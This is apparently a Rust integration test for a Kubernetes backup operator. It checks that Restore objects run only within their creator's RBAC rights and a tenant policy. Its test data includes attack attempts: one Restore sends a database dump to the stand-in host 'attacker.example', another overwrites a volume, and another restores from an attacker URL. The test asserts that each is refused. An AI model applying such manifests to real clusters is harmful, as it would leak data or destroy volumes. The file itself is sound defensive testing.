//! A Restore may only read what its creator could read and write where its creator could write.
//! Real users with real Roles on the real API server (their requests are made through the admin's
//! impersonation, so the server decides each one by the user's Role, as for their own
//! certificate), and the operator binary deciding by SubjectAccessReview.
//!
//! The test API server does not run ValidatingAdmissionPolicies: where the chart's policy makes
//! the creator write their own user name into `neverwiped.io/requested-by` (and refuses any
//! other), the test writes the name of the user it acts as.

use serde_json::{json, Value};

use crate::support::{
    apply_crds, create_basic_auth_secret, create_secret, eventually, kubectl_json, kubectl_output,
    kubectl_stdin, Operator, TestNamespace, ACT_TIMEOUT,
};

/// Creates `object` in `namespace` as the user `user` (with the groups `groups`).
fn create_as(user: &str, groups: &[&str], namespace: &str, object: &Value) {
    let mut args = vec![format!("--as={user}")];
    args.extend(groups.iter().map(|g| format!("--as-group={g}")));
    args.extend(["create", "-n", namespace, "-f", "-"].map(String::from));
    let args: Vec<&str> = args.iter().map(String::as_str).collect();
    let output = kubectl_output(&args, Some(&object.to_string()));
    assert!(
        output.status.success(),
        "{user} may create {}: {}",
        object["kind"],
        String::from_utf8_lossy(&output.stderr)
    );
}

/// A Role of `rules` bound to `user` in `namespace`.
fn grant(namespace: &str, user: &str, rules: Value) {
    let role = json!({
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role",
        "metadata": {"name": user, "namespace": namespace},
        "rules": rules,
    });
    let binding = json!({
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
        "metadata": {"name": user, "namespace": namespace},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": user},
        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": user}],
    });
    for object in [role, binding] {
        kubectl_stdin(&["create", "-f", "-"], Some(&object.to_string()));
    }
}

/// What the docs call safe for people who watch backup health, plus creating Restores and
/// Secrets of their own.
fn watcher_rules(own_secret: &str, extra: Value) -> Value {
    let mut rules = vec![
        json!({"apiGroups": ["neverwiped.io"], "resources": ["backupplans"], "verbs": ["get", "list", "watch"]}),
        json!({"apiGroups": ["neverwiped.io"], "resources": ["restores"], "verbs": ["get", "list", "watch", "create"]}),
        json!({"apiGroups": [""], "resources": ["secrets"], "verbs": ["create"]}),
        json!({"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"], "resourceNames": [own_secret]}),
    ];
    rules.extend(extra.as_array().cloned().unwrap_or_default());
    Value::Array(rules)
}

/// The plan `nightly`, its Secrets and its volume `uploads`.
fn create_plan(namespace: &str) {
    create_secret(namespace, "shop-repository", &[("password", "pw-5b1e")]);
    create_basic_auth_secret(namespace, "gate-login", "shop", "gate-pw-77d0");
    create_basic_auth_secret(namespace, "pg-backup", "backup", "pg-pw-3c9a");
    let claim = json!({
        "apiVersion": "v1", "kind": "PersistentVolumeClaim",
        "metadata": {"name": "uploads", "namespace": namespace},
        "spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}},
    });
    let plan = json!({
        "apiVersion": "neverwiped.io/v1alpha1", "kind": "BackupPlan",
        "metadata": {"name": "nightly", "namespace": namespace},
        "spec": {
            "schedule": "30 2 * * *",
            "repository": {
                "url": "http://gate.example.test:8000/shop",
                "passwordSecretRef": {"name": "shop-repository", "key": "password"},
                "credentialsSecretRef": {"name": "gate-login"}
            },
            "volumes": [{"claimName": "uploads"}],
            "databases": [{"name": "orders", "type": "postgresql", "host": "postgres.shop.svc",
                           "credentialsSecretRef": {"name": "pg-backup"}}]
        }
    });
    for object in [claim, plan] {
        kubectl_stdin(&["create", "-f", "-"], Some(&object.to_string()));
    }
}

/// A Restore of `nightly` recorded as created by `user` (none: no record).
fn restore(name: &str, user: Option<&str>, spec: Value) -> Value {
    let mut restore = json!({
        "apiVersion": "neverwiped.io/v1alpha1", "kind": "Restore",
        "metadata": {"name": name},
        "spec": {"backupPlanName": "nightly", "snapshot": "latest"},
    });
    if let Some(user) = user {
        restore["metadata"]["annotations"] = json!({"neverwiped.io/requested-by": user});
    }
    for (key, value) in spec.as_object().expect("an object") {
        restore["spec"][key] = value.clone();
    }
    restore
}

/// Waits until the Restore `name` has a `Ready` condition, and returns it.
async fn ready_condition(namespace: &str, name: &str) -> Value {
    eventually(
        &format!("the Restore {name}'s Ready condition"),
        ACT_TIMEOUT,
        || async {
            let status = kubectl_json(&["get", "restores.neverwiped.io", name, "-n", namespace])
                ["status"]
                .clone();
            let conditions = status["conditions"].as_array().cloned().unwrap_or_default();
            conditions.into_iter().find(|c| c["type"] == "Ready")
        },
    )
    .await
}

/// The reasons of the Events about the Restore `name`.
fn event_reasons(namespace: &str, name: &str) -> Vec<String> {
    let selector = format!("involvedObject.kind=Restore,involvedObject.name={name}");
    let events = kubectl_json(&[
        "get",
        "events",
        "-n",
        namespace,
        "--field-selector",
        &selector,
    ]);
    let items = events["items"].as_array().cloned().unwrap_or_default();
    items
        .iter()
        .filter_map(|event| event["reason"].as_str().map(str::to_owned))
        .collect()
}

/// Asserts the Restore `name` is refused with `reason` (condition and Event) and has no Job.
async fn assert_refused(namespace: &str, name: &str, reason: &str, names: &str) {
    let ready = ready_condition(namespace, name).await;
    assert_eq!(ready["status"], "False", "{name}: {ready:#}");
    assert_eq!(ready["reason"], reason, "{name}: {ready:#}");
    let message = ready["message"].as_str().unwrap_or_default();
    assert!(
        message.contains(names),
        "{name}: the message names {names}: {message}"
    );
    let job = format!("{name}-restore");
    let found = kubectl_output(&["get", "job", &job, "-n", namespace], None);
    assert!(!found.status.success(), "{name}: no Job {job} is created");
    eventually(
        &format!("a {reason} Event about {name}"),
        ACT_TIMEOUT,
        || async {
            event_reasons(namespace, name)
                .contains(&reason.to_owned())
                .then_some(())
        },
    )
    .await;
}

/// Waits until the Restore `name`'s Job exists.
async fn assert_started(namespace: &str, name: &str) {
    let ready = ready_condition(namespace, name).await;
    assert_eq!(ready["status"], "True", "{name}: {ready:#}");
    let job = format!("{name}-restore");
    eventually(&format!("the Job {job}"), ACT_TIMEOUT, || async {
        let found = kubectl_output(&["get", "job", &job, "-n", namespace], None);
        found.status.success().then_some(())
    })
    .await;
}

#[tokio::test]
async fn a_restore_only_reads_what_its_creator_could_read_and_writes_where_they_could_write() {
    if !crate::support::api_server_or_skip() {
        return;
    }
    apply_crds();
    let namespace = TestNamespace::create("requester");
    let ns = namespace.name.as_str();
    create_plan(ns);
    let _operator = Operator::start(ns);

    // Mallory may watch backup health, create Restores and Secrets of her own, and get the
    // claim: she sends the plan's database dump to her server, and another backup over the claim.
    let claim_get = json!([{"apiGroups": [""], "resources": ["persistentvolumeclaims"],
                            "verbs": ["get"], "resourceNames": ["uploads"]}]);
    grant(ns, "mallory", watcher_rules("mallory-db", claim_get));
    let own = json!({"apiVersion": "v1", "kind": "Secret", "metadata": {"name": "mallory-db"},
                     "type": "kubernetes.io/basic-auth",
                     "stringData": {"username": "m", "password": "m-pw"}});
    create_as("mallory", &[], ns, &own);
    let to_attacker = json!({"databases": [{"name": "orders", "host": "attacker.example",
                                            "credentialsSecretRef": {"name": "mallory-db"}}]});
    create_as(
        "mallory",
        &[],
        ns,
        &restore("exfiltrate", Some("mallory"), to_attacker),
    );
    let over_claim = json!({"volumes": [{"sourceClaimName": "other-app", "targetClaimName": "uploads"}],
                            "mover": {"fsGroup": 4242}});
    create_as(
        "mallory",
        &[],
        ns,
        &restore("overwrite", Some("mallory"), over_claim),
    );
    assert_refused(
        ns,
        "exfiltrate",
        "RequesterCannotDecrypt",
        "shop-repository",
    )
    .await;
    assert_refused(ns, "overwrite", "RequesterCannotDecrypt", "gate-login").await;

    // Olivia, of group restorers, may read the plan's Secrets but only get the claim: she may
    // not have a backup written over it.
    let readers = json!([{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"],
                          "resourceNames": ["shop-repository", "gate-login"]},
                         {"apiGroups": [""], "resources": ["persistentvolumeclaims"],
                          "verbs": ["get"], "resourceNames": ["uploads"]}]);
    grant(ns, "olivia", watcher_rules("olivia-db", readers.clone()));
    let into_claim =
        json!({"volumes": [{"sourceClaimName": "uploads", "targetClaimName": "uploads"}]});
    create_as(
        "olivia",
        &[],
        ns,
        &restore("olivia-into-claim", Some("olivia"), into_claim.clone()),
    );
    assert_refused(
        ns,
        "olivia-into-claim",
        "RequesterCannotWriteClaim",
        "uploads",
    )
    .await;

    // Rights bound to a group count when the Restore records the group.
    let mut writers = readers.as_array().cloned().unwrap();
    writers.push(
        json!({"apiGroups": [""], "resources": ["persistentvolumeclaims"],
                        "verbs": ["update"], "resourceNames": ["uploads"]}),
    );
    grant(
        ns,
        "restorers",
        watcher_rules("restorers-db", Value::Array(writers)),
    );
    let group_binding = json!({
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
        "metadata": {"name": "restorers-group", "namespace": ns},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "restorers"},
        "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "Group", "name": "restorers"}],
    });
    kubectl_stdin(&["create", "-f", "-"], Some(&group_binding.to_string()));
    let mut by_group = restore("olivia-as-restorer", Some("olivia"), into_claim);
    by_group["metadata"]["annotations"]["neverwiped.io/requested-by-groups"] = json!("restorers");
    create_as("olivia", &["restorers"], ns, &by_group);
    assert_started(ns, "olivia-as-restorer").await;

    // A Restore that records no creator runs for nobody.
    let anonymous =
        json!({"volumes": [{"sourceClaimName": "uploads", "targetClaimName": "uploads"}]});
    kubectl_stdin(
        &["create", "-n", ns, "-f", "-"],
        Some(&restore("unrecorded", None, anonymous).to_string()),
    );
    assert_refused(
        ns,
        "unrecorded",
        "RequesterUnknown",
        "neverwiped.io/requested-by",
    )
    .await;
}

/// A Restore from a repository alone (no plan) in namespace `ns`, by `user`, of `origin`.
fn restore_from_repository(name: &str, user: &str, url: &str, origin: &str) -> Value {
    json!({
        "apiVersion": "neverwiped.io/v1alpha1", "kind": "Restore",
        "metadata": {"name": name, "annotations": {"neverwiped.io/requested-by": user}},
        "spec": {
            "repository": {"url": url,
                           "passwordSecretRef": {"name": "old-repository", "key": "password"},
                           "credentialsSecretRef": {"name": "old-gate-login"}},
            "origin": origin,
            "volumes": [{"sourceClaimName": "uploads", "targetClaimName": "uploads"}],
        },
    })
}

#[tokio::test]
async fn a_restore_from_a_repository_alone_runs_within_the_policy_and_clones_only_by_a_rule() {
    if !crate::support::api_server_or_skip() {
        return;
    }
    apply_crds();
    let namespace = TestNamespace::create("origin");
    let ns = namespace.name.as_str();
    create_secret(ns, "old-repository", &[("password", "pw-7c21")]);
    create_basic_auth_secret(ns, "old-gate-login", "shop", "gate-pw-1e0b");
    let claim = json!({
        "apiVersion": "v1", "kind": "PersistentVolumeClaim",
        "metadata": {"name": "uploads", "namespace": ns},
        "spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Gi"}}},
    });
    kubectl_stdin(&["create", "-f", "-"], Some(&claim.to_string()));
    let policy = json!({
        "allowedRepositoryPrefixes": ["http://gate.example.test:8000/"],
        "allowedRestoreOrigins": [{"from": "shop", "to": ns}],
    })
    .to_string();
    let _operator = Operator::start_with(ns, "operator", &[("NEVERWIPED_TENANT_POLICY", &policy)]);
    // Rita may only restore in her namespace: read its repository's Secrets, write its claim.
    let rights = json!([{"apiGroups": [""], "resources": ["secrets"], "verbs": ["get"],
                         "resourceNames": ["old-repository", "old-gate-login"]},
                        {"apiGroups": [""], "resources": ["persistentvolumeclaims"],
                         "verbs": ["get", "update"], "resourceNames": ["uploads"]}]);
    grant(ns, "rita", watcher_rules("rita-db", rights));
    let gate = "http://gate.example.test:8000/shop";
    let own_origin = format!("{ns}/nightly");
    let cases = [
        ("own", gate, own_origin.as_str()),
        ("clone", gate, "shop/nightly"),
        ("forbidden-clone", gate, "blog/nightly"),
        (
            "elsewhere",
            "https://attacker.example/shop",
            own_origin.as_str(),
        ),
    ];
    for (name, url, origin) in cases {
        create_as(
            "rita",
            &[],
            ns,
            &restore_from_repository(name, "rita", url, origin),
        );
    }
    for (name, host) in [("own", own_origin.as_str()), ("clone", "shop/nightly")] {
        assert_started(ns, name).await;
        let job = kubectl_json(&["get", "job", &format!("{name}-restore"), "-n", ns]);
        let container = &job["spec"]["template"]["spec"]["containers"][0];
        let args: Vec<&str> = container["args"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(Value::as_str)
            .collect();
        let at = args.iter().position(|a| *a == "--host").expect("--host");
        assert_eq!(args[at + 1], host, "{name}: {args:?}");
        assert!(
            args.contains(&"rest:http://gate.example.test:8000/shop"),
            "{name}: {args:?}"
        );
        let secrets = job["spec"]["template"]["spec"]["volumes"].to_string();
        for secret in ["old-repository", "old-gate-login"] {
            assert!(
                secrets.contains(secret),
                "{name}: the Job mounts {secret}: {secrets}"
            );
        }
    }
    assert_refused(
        ns,
        "forbidden-clone",
        "CloneNotAllowed",
        &format!("from: blog, to: {ns}"),
    )
    .await;
    assert_refused(
        ns,
        "elsewhere",
        "RepositoryNotAllowed",
        "policy.allowedRepositoryPrefixes",
    )
    .await;
}
